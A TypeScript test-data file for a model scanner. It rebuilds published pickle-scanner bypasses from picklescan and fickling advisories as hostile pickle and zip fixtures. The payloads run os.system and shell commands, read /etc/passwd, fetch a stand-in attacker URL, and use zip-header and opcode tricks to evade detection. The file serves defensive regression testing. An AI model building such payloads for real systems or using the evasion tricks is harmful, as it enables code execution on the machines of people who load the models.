/**
 * Published bypasses of pickle scanners (picklescan and fickling advisories 2025-2026, and
 * the reports they came from), rebuilt here as test data: each is written opcode by opcode
 * (or zip field by field) from the advisory's description, never copied from a fetched file.
 * docs/scanning.md lists every case with its advisory; a test checks the two agree.
 */
import { crc32 } from 'node:zlib';
import { P, npy, osSystemProtocol4, tensorStateDict } from './scan-fixtures.js';
import { craftZip } from './zip-craft.js';

export interface AdvisoryCase {
  /** The advisory (GHSA id, CVE) or report the case comes from. */
  id: string;
  url: string;
  /** What the bypass does, in a few words (the docs table shows the same words). */
  what: string;
  /** File name in the model (its extension matters to the scanner). */
  file: string;
  bytes: () => Buffer;
  /** Finding codes expected (each at least once). */
  codes: string[];
  /** Imported globals expected as findings (module.name, as the pickle names them). */
  globals?: string[];
}

const ADV = (repo: string, id: string) => `https://github.com/${repo}/security/advisories/${id}`;
const PS = (id: string) => ADV('mmaitre314/picklescan', id);
const FK = (id: string) => ADV('trailofbits/fickling', id);

type Arg = string | Buffer;

/** `module.name(*args)` as pickle.dumps(protocol=4) writes it: a frame, STACK_GLOBAL over memoized strings. */
export function call4(module: string, name: string, ...args: Arg[]): Buffer {
  const p = new P().su(module).memoize().su(name).memoize().stackGlobal().memoize().mark();
  for (const a of args) (typeof a === 'string' ? p.su(a) : p.binbytes(a)).memoize();
  const body = p.tuple().memoize().reduce().memoize().stop().bytes();
  return Buffer.concat([new P().proto(4).frame(body.length).bytes(), body]);
}

/** The same call at protocol 2: GLOBAL names it inline. */
export function call2(module: string, name: string, ...args: string[]): Buffer {
  const p = new P().proto(2).global(module, name).put(0).mark();
  for (const a of args) p.u(a);
  return p.tuple().reduce().stop().bytes();
}

/** The same call at protocol 0: no PROTO header, nothing a magic-number check can see. */
export function call0(module: string, name: string, ...args: string[]): Buffer {
  return Buffer.from(`c${module}\n${name}\n(${args.map((a) => `S'${a}'\n`).join('')}tR.`, 'latin1');
}

const CMD = '__import__("os").system("id")';
const MAGIC = Buffer.from('6cfc9c46f9206aa85019', 'hex');

/** A simple call case: the global is dangerous (critical) whatever the encoding. */
function callCase(id: string, url: string, what: string, module: string, name: string, file = 'model.pkl', encode: (m: string, n: string, ...a: string[]) => Buffer = call4, args: string[] = [CMD]): AdvisoryCase {
  return { id, url, what, file, bytes: () => encode(module, name, ...args), codes: ['PICKLE_DANGEROUS_GLOBAL'], globals: [`${module}.${name}`] };
}

/** A torch.save legacy file: magic, protocol, sys info, data, storage keys - some replaced. */
function legacyTorch(parts: Partial<Record<0 | 1 | 2 | 3 | 4, Buffer>>): Buffer {
  const defaults = [
    new P().proto(2).raw(0x8a, 10, MAGIC).stop().bytes(),
    new P().proto(2).raw('M', Buffer.from([0xe9, 0x03])).stop().bytes(),
    new P().proto(2).emptyDict().stop().bytes(),
    tensorStateDict(),
    new P().proto(2).emptyList().stop().bytes(),
  ];
  return Buffer.concat([...defaults.map((d, i) => parts[i as 0] ?? d), Buffer.alloc(64, 0x80)]);
}

const hostileMember = () => ({ name: 'archive/data.pkl', data: osSystemProtocol4() });

/** A hostile pickle handed as bytes to another loader (the loader is what runs it). */
function nested(what: string, file: string, module: string, name: string): AdvisoryCase {
  const bytes = () => new P().proto(3).global(module, name).binbytes(osSystemProtocol4()).tuple1().reduce().stop().bytes();
  return { id: 'picklescan#25', url: 'https://github.com/mmaitre314/picklescan/pull/25', what, file, bytes, codes: ['PICKLE_DANGEROUS_GLOBAL'], globals: [`${module}.${name}`] };
}

export const ADVISORY_CASES: AdvisoryCase[] = [
  // --- picklescan: stdlib and torch functions that run code, missing from its deny-list ---
  callCase('GHSA-4r9r-ch6f-vxmx', PS('GHSA-4r9r-ch6f-vxmx'), 'torch bottleneck run_cprofile runs a string', 'torch.utils.bottleneck.__main__', 'run_cprofile'),
  callCase('GHSA-4whj-rm5r-c2v8', PS('GHSA-4whj-rm5r-c2v8'), 'torch bottleneck run_autograd_prof', 'torch.utils.bottleneck.__main__', 'run_autograd_prof'),
  callCase('GHSA-86cj-95qr-2p4f', PS('GHSA-86cj-95qr-2p4f'), 'torch._dynamo GuardBuilder.get evaluates a string', 'torch._dynamo.guards', 'GuardBuilder.get'),
  callCase('GHSA-f4x7-rfwp-v3xw', PS('GHSA-f4x7-rfwp-v3xw'), 'torch.fx ShapeEnv.evaluate_guards_expression', 'torch.fx.experimental.symbolic_shapes', 'ShapeEnv.evaluate_guards_expression'),
  callCase('GHSA-f745-w6jp-hpxx', PS('GHSA-f745-w6jp-hpxx'), 'torch collect_env.run runs a command', 'torch.utils.collect_env', 'run'),
  callCase('GHSA-jhph-76pp-mggw', PS('GHSA-jhph-76pp-mggw'), 'torch collect_env.run_and_read_all', 'torch.utils.collect_env', 'run_and_read_all'),
  callCase('GHSA-h3qp-7fh3-f8h4', PS('GHSA-h3qp-7fh3-f8h4'), 'torch datapipes decoder unpickles nested bytes', 'torch.utils.data.datapipes.utils.decoder', 'basichandlers'),
  callCase('GHSA-vr7h-p6mm-wpmh', PS('GHSA-vr7h-p6mm-wpmh'), 'torch.jit execWrapper runs a string', 'torch.jit.unsupported_tensor_ops', 'execWrapper'),
  callCase('GHSA-vv6j-3g6g-2pvj', PS('GHSA-vv6j-3g6g-2pvj'), 'torch ConfigModule.load_config unpickles nested bytes', 'torch.utils._config_module', 'ConfigModule.load_config'),
  callCase('GHSA-655q-fx9r-782v', PS('GHSA-655q-fx9r-782v'), 'torch._inductor compile_file runs a command', 'torch._inductor.codecache', 'compile_file'),
  { ...callCase('GHSA-655q-fx9r-782v', PS('GHSA-655q-fx9r-782v'), 'functools.partial around torch.load', 'functools', 'partial'), file: 'partial.pkl', bytes: () => new P().proto(2).global('functools', 'partial').global('torch.serialization', 'load').u('other.bin').tuple2().reduce().emptyTuple().reduce().stop().bytes(), globals: ['functools.partial', 'torch.serialization.load'] },
  callCase('GHSA-655q-fx9r-782v', PS('GHSA-655q-fx9r-782v'), 'pydoc.pipepager runs a command', 'pydoc', 'pipepager', 'pipepager.pkl'),
  callCase('GHSA-655q-fx9r-782v', PS('GHSA-655q-fx9r-782v'), 'venv.create runs pip with a prompt', 'venv', 'create', 'venv.pkl'),
  callCase('CVE-2025-1716', 'https://osv.dev/vulnerability/CVE-2025-1716', 'pip.main installs a package', 'pip', 'main', 'pip.pkl', call0, ['install']),
  callCase('GHSA-xp4f-hrf8-rxw7', PS('GHSA-xp4f-hrf8-rxw7'), 'ensurepip._run_pip runs code', 'ensurepip', '_run_pip'),
  callCase('GHSA-5qwp-399c-mjwf', PS('GHSA-5qwp-399c-mjwf'), 'trace.Trace.run', 'trace', 'Trace.run'),
  callCase('GHSA-g344-hcph-8vgg', PS('GHSA-g344-hcph-8vgg'), 'trace.Trace.runctx', 'trace', 'Trace.runctx'),
  callCase('GHSA-x696-vm39-cp64', PS('GHSA-x696-vm39-cp64'), 'profile.Profile.run', 'profile', 'Profile.run'),
  callCase('GHSA-6vqj-c2q5-j97w', PS('GHSA-6vqj-c2q5-j97w'), 'profile.Profile.runctx', 'profile', 'Profile.runctx'),
  callCase('GHSA-7wx9-6375-f5wh', PS('GHSA-7wx9-6375-f5wh'), 'profile.run', 'profile', 'run'),
  callCase('GHSA-49gj-c84q-6qm9', PS('GHSA-49gj-c84q-6qm9'), 'cProfile.run', 'cProfile', 'run'),
  callCase('GHSA-9w88-8rmg-7g2p', PS('GHSA-9w88-8rmg-7g2p'), 'cProfile.runctx', 'cProfile', 'runctx'),
  callCase('GHSA-f54q-57x4-jg88', PS('GHSA-f54q-57x4-jg88'), 'lib2to3 Grammar.loads unpickles', 'lib2to3.pgen2.grammar', 'Grammar.loads'),
  callCase('GHSA-p9w7-82w4-7q8m', PS('GHSA-p9w7-82w4-7q8m'), 'lib2to3 ParserGenerator.make_label evaluates', 'lib2to3.pgen2.pgen', 'ParserGenerator.make_label'),
  callCase('GHSA-3vg9-h568-4w9m', PS('GHSA-3vg9-h568-4w9m'), 'idlelib ObjectTreeItem.SetText evaluates', 'idlelib.debugobj', 'ObjectTreeItem.SetText'),
  callCase('GHSA-6w4w-5w54-rjvr', PS('GHSA-6w4w-5w54-rjvr'), 'idlelib AutoComplete.get_entity evaluates', 'idlelib.autocomplete', 'AutoComplete.get_entity'),
  callCase('GHSA-7cq8-mj8x-j263', PS('GHSA-7cq8-mj8x-j263'), 'idlelib AutoComplete.fetch_completions', 'idlelib.autocomplete', 'AutoComplete.fetch_completions'),
  callCase('GHSA-8r4j-24qv-fmq9', PS('GHSA-8r4j-24qv-fmq9'), 'idlelib Calltip.fetch_tip', 'idlelib.calltip', 'Calltip.fetch_tip'),
  callCase('GHSA-9xph-j2h6-g47v', PS('GHSA-9xph-j2h6-g47v'), 'idlelib calltip.get_entity', 'idlelib.calltip', 'get_entity'),
  callCase('GHSA-m869-42cg-3xwr', PS('GHSA-m869-42cg-3xwr'), 'idlelib Executive.runcode', 'idlelib.run', 'Executive.runcode'),
  callCase('GHSA-j343-8v2j-ff7w', PS('GHSA-j343-8v2j-ff7w'), 'idlelib ModifiedInterpreter.runcommand', 'idlelib.pyshell', 'ModifiedInterpreter.runcommand'),
  callCase('GHSA-3gf5-cxq9-w223', PS('GHSA-3gf5-cxq9-w223'), 'idlelib ModifiedInterpreter.runcode', 'idlelib.pyshell', 'ModifiedInterpreter.runcode'),
  callCase('GHSA-cj3c-v495-4xqh', PS('GHSA-cj3c-v495-4xqh'), 'code.InteractiveInterpreter.runcode', 'code', 'InteractiveInterpreter.runcode'),
  callCase('GHSA-fqq6-7vqf-w3fg', PS('GHSA-fqq6-7vqf-w3fg'), 'doctest.debug_script', 'doctest', 'debug_script'),
  callCase('GHSA-q77w-mwjj-7mqx', PS('GHSA-q77w-mwjj-7mqx'), 'asyncio _UnixSubprocessTransport._start', 'asyncio.unix_events', '_UnixSubprocessTransport._start'),
  callCase('GHSA-f7qq-56ww-84cr', PS('GHSA-f7qq-56ww-84cr'), 'an asyncio submodule that starts a shell', 'asyncio.subprocess', 'create_subprocess_shell', 'asyncio.pkl', call2, ['id']),
  callCase('GHSA-m273-6v24-x4m4', PS('GHSA-m273-6v24-x4m4'), 'distutils write_file writes any file', 'distutils.file_util', 'write_file'),
  callCase('GHSA-4675-36f9-wf6r', PS('GHSA-4675-36f9-wf6r'), 'ctypes.CDLL loads a library', 'ctypes', 'CDLL'),
  callCase('GHSA-vqmv-47xg-9wpr', PS('GHSA-vqmv-47xg-9wpr'), 'pty.spawn', 'pty', 'spawn'),
  callCase('GHSA-r8g5-cgf2-4m4m', PS('GHSA-r8g5-cgf2-4m4m'), 'numpy.f2py getlincoef evaluates', 'numpy.f2py.crackfortran', 'getlincoef'),
  callCase('GHSA-m7j5-r2p5-c39r', PS('GHSA-m7j5-r2p5-c39r'), 'logging.FileHandler creates a file', 'logging', 'FileHandler', 'filehandler.pkl', call2, ['/etc/cron.d/x']),
  callCase('GHSA-9726-w42j-3qjr', PS('GHSA-9726-w42j-3qjr'), '_io.FileIO opens a file', '_io', 'FileIO', 'fileio.pkl', call4, ['/etc/passwd']),
  callCase('GHSA-9726-w42j-3qjr', PS('GHSA-9726-w42j-3qjr'), 'urllib.request.urlopen', 'urllib.request', 'urlopen', 'urlopen.pkl', call4, ['https://attacker.invalid/']),
  callCase('GHSA-vvpj-8cmc-gx39', PS('GHSA-vvpj-8cmc-gx39'), 'pkgutil.resolve_name reaches any function', 'pkgutil', 'resolve_name', 'model.pkl', call4, ['os:system']),
  callCase('GHSA-g38g-8gr9-h9xp', PS('GHSA-g38g-8gr9-h9xp'), 'uuid._get_command_stdout runs a command', 'uuid', '_get_command_stdout', 'uuid.pkl', call4, ['id']),
  callCase('GHSA-g38g-8gr9-h9xp', PS('GHSA-g38g-8gr9-h9xp'), '_osx_support._read_output', '_osx_support', '_read_output', 'osx.pkl', call4, ['id']),
  callCase('GHSA-g38g-8gr9-h9xp', PS('GHSA-g38g-8gr9-h9xp'), '_aix_support._read_cmd_output', '_aix_support', '_read_cmd_output', 'aix.pkl', call4, ['id']),
  callCase('GHSA-g38g-8gr9-h9xp', PS('GHSA-g38g-8gr9-h9xp'), 'imaplib.IMAP4_stream runs a command', 'imaplib', 'IMAP4_stream', 'imaplib.pkl', call4, ['id']),
  callCase('GHSA-g38g-8gr9-h9xp', PS('GHSA-g38g-8gr9-h9xp'), '_pyrepl.pager.pipe_pager', '_pyrepl.pager', 'pipe_pager', 'pager.pkl', call4, ['text', 'id']),
  callCase('GHSA-g38g-8gr9-h9xp', PS('GHSA-g38g-8gr9-h9xp'), 'test.support script_helper runs python', 'test.support.script_helper', 'assert_python_ok', 'testsupport.pkl', call4, ['-c', 'pass']),
  {
    id: 'GHSA-84r2-jw7c-4r5q',
    url: PS('GHSA-84r2-jw7c-4r5q'),
    what: 'operator.methodcaller on a module pydoc.locate found',
    file: 'methodcaller.pkl',
    bytes: () => new P().proto(2).global('operator', 'methodcaller').u('system').u('id').tuple2().reduce().global('pydoc', 'locate').u('os').tuple1().reduce().tuple1().reduce().stop().bytes(),
    codes: ['PICKLE_DANGEROUS_GLOBAL'],
    globals: ['operator.methodcaller', 'pydoc.locate'],
  },
  {
    id: 'GHSA-955r-x9j8-7rhh',
    url: PS('GHSA-955r-x9j8-7rhh'),
    what: '_operator.methodcaller (the C module behind operator)',
    file: 'c-operator.pkl',
    bytes: () => new P().proto(2).global('_operator', 'methodcaller').u('system').u('id').tuple2().reduce().global('builtins', '__import__').u('os').tuple1().reduce().tuple1().reduce().stop().bytes(),
    codes: ['PICKLE_DANGEROUS_GLOBAL'],
    globals: ['_operator.methodcaller', 'builtins.__import__'],
  },
  callCase('GHSA-46h3-79wf-xr6c', PS('GHSA-46h3-79wf-xr6c'), '_operator.attrgetter', '_operator', 'attrgetter', 'attrgetter.pkl', call4, ['system']),
  callCase('GHSA-9m3x-qqw2-h32h', PS('GHSA-9m3x-qqw2-h32h'), 'types.CodeType builds code', 'types', 'CodeType'),
  callCase('GHSA-9m3x-qqw2-h32h', PS('GHSA-9m3x-qqw2-h32h'), 'cloudpickle _make_function', 'cloudpickle.cloudpickle', '_make_function', 'cloudpickle.pkl'),
  // --- picklescan: parsing and container tricks ---
  {
    id: 'GHSA-9gvj-pp9x-gcfr',
    url: PS('GHSA-9gvj-pp9x-gcfr'),
    what: 'STACK_GLOBAL over protocol 0 STRING operands, no PROTO',
    file: 'strings.pkl',
    bytes: () => Buffer.from("S'os'\nS'system'\n\x93S'ls'\n\x85R.", 'latin1'),
    codes: ['PICKLE_DANGEROUS_GLOBAL'],
    globals: ['os.system'],
  },
  { ...callCase('GHSA-jgw4-cr84-mqxg', PS('GHSA-jgw4-cr84-mqxg'), 'a pickle in a .bin (protocol 0: no PROTO to sniff)', 'asyncio.unix_events', '_UnixSubprocessTransport._start', 'training_args.bin', call0, ['id']) },
  {
    id: 'GHSA-97f8-7cmv-76j2',
    url: PS('GHSA-97f8-7cmv-76j2'),
    what: 'legacy torch file: magic number from eval, payload in a later pickle',
    file: 'pytorch_model.bin',
    bytes: () => legacyTorch({ 0: new P().proto(2).global('builtins', 'eval').u('0x1950A86A20F9469CFC6C').tuple1().reduce().stop().bytes(), 4: call0('posix', 'system', 'id') }),
    codes: ['PICKLE_DANGEROUS_GLOBAL'],
    globals: ['builtins.eval', 'posix.system'],
  },
  {
    id: 'GHSA-97f8-7cmv-76j2',
    url: PS('GHSA-97f8-7cmv-76j2'),
    what: 'legacy torch file: protocol 0 data pickle after a real magic number',
    file: 'legacy.pt',
    bytes: () => legacyTorch({ 3: call0('subprocess', 'getoutput', 'id') }),
    codes: ['PICKLE_DANGEROUS_GLOBAL'],
    globals: ['subprocess.getoutput'],
  },
  {
    id: 'GHSA-mjqp-26hc-grxg',
    url: PS('GHSA-mjqp-26hc-grxg'),
    what: 'zip member with a wrong CRC (Python refuses, PyTorch loads)',
    file: 'crc.pt',
    bytes: () => craftZip([{ ...hostileMember(), crc: (crc32(osSystemProtocol4()) ^ 1) >>> 0 }]),
    codes: ['ZIP_AMBIGUOUS', 'PICKLE_DANGEROUS_GLOBAL'],
    globals: ['os.system'],
  },
  { id: 'GHSA-w8jq-xcqf-f792', url: PS('GHSA-w8jq-xcqf-f792'), what: 'zip flag bit 0x1 (encrypted)', file: 'flag1.pt', bytes: () => craftZip([{ ...hostileMember(), flags: 0x801 }]), codes: ['ZIP_ENCRYPTED', 'PICKLE_DANGEROUS_GLOBAL'], globals: ['os.system'] },
  { id: 'GHSA-w8jq-xcqf-f792', url: PS('GHSA-w8jq-xcqf-f792'), what: 'zip flag bit 0x20 (patch data)', file: 'flag20.pt', bytes: () => craftZip([{ ...hostileMember(), flags: 0x820 }]), codes: ['ZIP_AMBIGUOUS', 'PICKLE_DANGEROUS_GLOBAL'], globals: ['os.system'] },
  { id: 'GHSA-w8jq-xcqf-f792', url: PS('GHSA-w8jq-xcqf-f792'), what: 'zip flag bit 0x40 (strong encryption)', file: 'flag40.pt', bytes: () => craftZip([{ ...hostileMember(), flags: 0x840 }]), codes: ['ZIP_AMBIGUOUS', 'PICKLE_DANGEROUS_GLOBAL'], globals: ['os.system'] },
  {
    id: 'GHSA-7q5r-7gvp-wc82',
    url: PS('GHSA-7q5r-7gvp-wc82'),
    what: 'zip local header named differently (datap.kl)',
    file: 'localname.pt',
    bytes: () => craftZip([{ ...hostileMember(), localName: 'archive/datap.kl' }]),
    codes: ['ZIP_AMBIGUOUS', 'PICKLE_DANGEROUS_GLOBAL'],
    globals: ['os.system'],
  },
  { id: 'GHSA-769v-p64c-89pr', url: PS('GHSA-769v-p64c-89pr'), what: 'zip member with a non-pickle name (data.txt)', file: 'wrong-ext.zip', bytes: () => craftZip([{ name: 'data.txt', data: osSystemProtocol4() }]), codes: ['PICKLE_DANGEROUS_GLOBAL'], globals: ['os.system'] },
  {
    id: 'picklescan#35',
    url: 'https://github.com/mmaitre314/picklescan/pull/35',
    what: 'a pickle recompressed into a 7z archive',
    file: 'pytorch_model.7z.bin',
    bytes: () => Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), Buffer.alloc(56, 0x11)]),
    codes: ['SCAN_SKIPPED'],
  },
  nested('a nested pickle run by pickle.loads', 'nested.pkl', '_pickle', 'loads'),
  nested('a nested checkpoint run by torch.storage._load_from_bytes', 'nested-torch.pkl', 'torch.storage', '_load_from_bytes'),
  {
    id: 'picklescan#52',
    url: 'https://github.com/mmaitre314/picklescan/pull/52',
    what: 'a call, then a memo key that was never stored',
    file: 'memo-miss.pkl',
    bytes: () => new P().proto(4).global('os', 'system').u('id').tuple1().reduce().raw('0').su('os').memoize().get(3).get(0).stackGlobal().stop().bytes(),
    codes: ['PICKLE_DANGEROUS_GLOBAL', 'PICKLE_MALFORMED'],
    globals: ['os.system'],
  },
  // --- fickling ---
  callCase('GHSA-r7v6-mfhq-g3m2', FK('GHSA-r7v6-mfhq-g3m2'), 'pty.spawn via STACK_GLOBAL', 'pty', 'spawn', 'pty.pkl', call4, ['id']),
  {
    id: 'GHSA-565g-hwwr-4pp3',
    url: FK('GHSA-565g-hwwr-4pp3'),
    what: 'marshal.loads code into types.FunctionType',
    file: 'marshal.pkl',
    bytes: () => new P().proto(4).su('types').su('FunctionType').stackGlobal().su('marshal').su('loads').stackGlobal().binbytes(Buffer.from('e3000000', 'hex')).tuple1().reduce().emptyDict().tuple2().reduce().emptyTuple().reduce().stop().bytes(),
    codes: ['PICKLE_DANGEROUS_GLOBAL'],
    globals: ['types.FunctionType', 'marshal.loads'],
  },
  callCase('GHSA-wfq2-52f7-7qvj', FK('GHSA-wfq2-52f7-7qvj'), 'runpy.run_path', 'runpy', 'run_path', 'runpy.pkl', call4, ['/tmp/x.py']),
  callCase('GHSA-p523-jq9w-64x9', FK('GHSA-p523-jq9w-64x9'), 'cProfile.run', 'cProfile', 'run', 'cprofile.pkl'),
  callCase('GHSA-5hvc-6wx8-mvv4', FK('GHSA-5hvc-6wx8-mvv4'), 'pydoc.locate resolves os.system', 'pydoc', 'locate', 'locate.pkl', call4, ['os.system']),
  callCase('GHSA-q5qq-mvfm-j35x', FK('GHSA-q5qq-mvfm-j35x'), 'importlib.import_module', 'importlib', 'import_module', 'importlib.pkl', call4, ['os']),
  callCase('GHSA-q5qq-mvfm-j35x', FK('GHSA-q5qq-mvfm-j35x'), 'multiprocessing.util.spawnv_passfds', 'multiprocessing.util', 'spawnv_passfds', 'spawnv.pkl', call4, ['/bin/sh']),
  {
    id: 'picklescan#66',
    url: 'https://github.com/mmaitre314/picklescan/issues/66',
    what: 'importlib.util find_spec/module_from_spec chain',
    file: 'importlib-chain.pkl',
    bytes: () => new P().proto(2).global('importlib.util', 'module_from_spec').global('importlib.util', 'find_spec').u('os').tuple1().reduce().tuple1().reduce().stop().bytes(),
    codes: ['PICKLE_DANGEROUS_GLOBAL'],
    globals: ['importlib.util.module_from_spec', 'importlib.util.find_spec'],
  },
  {
    id: 'GHSA-h4rm-mm56-xf63',
    url: FK('GHSA-h4rm-mm56-xf63'),
    what: 'builtins.__import__ then builtins.getattr',
    file: 'import-getattr.pkl',
    bytes: () => new P().proto(2).global('builtins', 'getattr').global('builtins', '__import__').u('os').tuple1().reduce().u('system').tuple2().reduce().u('id').tuple1().reduce().stop().bytes(),
    codes: ['PICKLE_DANGEROUS_GLOBAL'],
    globals: ['builtins.getattr', 'builtins.__import__'],
  },
  {
    id: 'GHSA-mxhj-88fx-4pcv',
    url: FK('GHSA-mxhj-88fx-4pcv'),
    what: 'OBJ call whose result is popped',
    file: 'obj-pop.pkl',
    bytes: () => new P().proto(4).mark().su('smtplib').su('SMTP').stackGlobal().su('127.0.0.1').raw('o').raw('0').raw('N').stop().bytes(),
    codes: ['PICKLE_DANGEROUS_GLOBAL'],
    globals: ['smtplib.SMTP'],
  },
  {
    id: 'GHSA-mhc9-48gj-9gp3',
    url: FK('GHSA-mhc9-48gj-9gp3'),
    what: 'REDUCE followed by BUILD (signal handler, server)',
    file: 'reduce-build.pkl',
    bytes: () => new P().proto(2).global('socketserver', 'TCPServer').mark().u('0.0.0.0').tuple().reduce().emptyDict().build().stop().bytes(),
    codes: ['PICKLE_DANGEROUS_GLOBAL'],
    globals: ['socketserver.TCPServer'],
  },
  callCase('GHSA-5hwf-rc88-82xm', FK('GHSA-5hwf-rc88-82xm'), '_osx_support._find_build_tool', '_osx_support', '_find_build_tool', 'buildtool.pkl', call4, ['x; id #']),
  {
    id: 'GHSA-5j3x-jp52-966f',
    url: FK('GHSA-5j3x-jp52-966f'),
    what: 'a dotted name through a stdlib module (pathlib + os.system)',
    file: 'dotted.pkl',
    bytes: () => call4('pathlib', 'os.system', 'id'),
    codes: ['PICKLE_DANGEROUS_GLOBAL'],
    globals: ['pathlib.os.system'],
  },
  callCase('GHSA-6ggj-6f2q-f7mx', FK('GHSA-6ggj-6f2q-f7mx'), '_interpreters.create', '_interpreters', 'create', 'interpreters.pkl', call4, []),
  callCase('GHSA-r48f-3986-4f9c', FK('GHSA-r48f-3986-4f9c'), 'linecache.getline reads a file', 'linecache', 'getline', 'linecache.pkl', call4, ['/etc/passwd']),
  callCase('GHSA-5cxw-w2xg-2m8h', FK('GHSA-5cxw-w2xg-2m8h'), 'platform runs a command', 'platform', '_syscmd_file', 'platform.pkl', call4, ['/bin/sh']),
  callCase('GHSA-m6fh-58r7-x697', FK('GHSA-m6fh-58r7-x697'), '_posixsubprocess.fork_exec', '_posixsubprocess', 'fork_exec', 'forkexec.pkl', call4, ['/bin/sh']),
  callCase('GHSA-pc6j-px3p-rrj4', FK('GHSA-pc6j-px3p-rrj4'), 'unittest.main runs a module', 'unittest', 'main', 'unittest.pkl', call4, ['os']),
  {
    id: 'GHSA-cffv-grgg-g429',
    url: FK('GHSA-cffv-grgg-g429'),
    what: 'an import no deny-list names (ast.parse): allow-list first',
    file: 'ast.pkl',
    bytes: () => call4('ast', 'parse', '1'),
    codes: ['PICKLE_UNKNOWN_GLOBAL'],
    globals: ['ast.parse'],
  },
  {
    id: 'cpython#154848',
    url: 'https://github.com/python/cpython/issues/154848',
    what: 'an argument running past its FRAME (file and buffer reads differ)',
    file: 'frame.pkl',
    bytes: () => Buffer.concat([Buffer.from([0x80, 5]), Buffer.from([0x95, 2, 0, 0, 0, 0, 0, 0, 0]), Buffer.from([0x42, 0x30, 0, 0, 0]), call0('os', 'system', 'id'), Buffer.alloc(40, 0x4e), Buffer.from('.')]),
    codes: ['PICKLE_FRAME_MISMATCH'],
  },
  {
    id: 'modelscan#338',
    url: 'https://github.com/protectai/modelscan/issues/338',
    what: 'an introspection chain through builtins (print.__class__...)',
    file: 'introspect.pkl',
    bytes: () => call4('builtins', 'print.__class__.__base__.__subclasses__'),
    codes: ['PICKLE_DANGEROUS_GLOBAL'],
    globals: ['builtins.print.__class__.__base__.__subclasses__'],
  },
  {
    id: 'modelscan#338',
    url: 'https://github.com/protectai/modelscan/issues/338',
    what: 'a model loader reached from transformers (indirect loading)',
    file: 'indirect.pkl',
    bytes: () => call4('transformers.models.auto.auto_factory', 'getattribute_from_module', 'from_pretrained'),
    codes: ['PICKLE_UNKNOWN_GLOBAL'],
    globals: ['transformers.models.auto.auto_factory.getattribute_from_module'],
  },
  {
    id: 'GHSA-m7j5-r2p5-c39r',
    url: PS('GHSA-m7j5-r2p5-c39r'),
    what: 'an object array in .npy whose pickle makes a FileHandler',
    file: 'objects.npy',
    bytes: () => npy('|O', '(1,)', call2('logging', 'FileHandler', '/tmp/x')),
    codes: ['PICKLE_DANGEROUS_GLOBAL'],
    globals: ['logging.FileHandler'],
  },
];
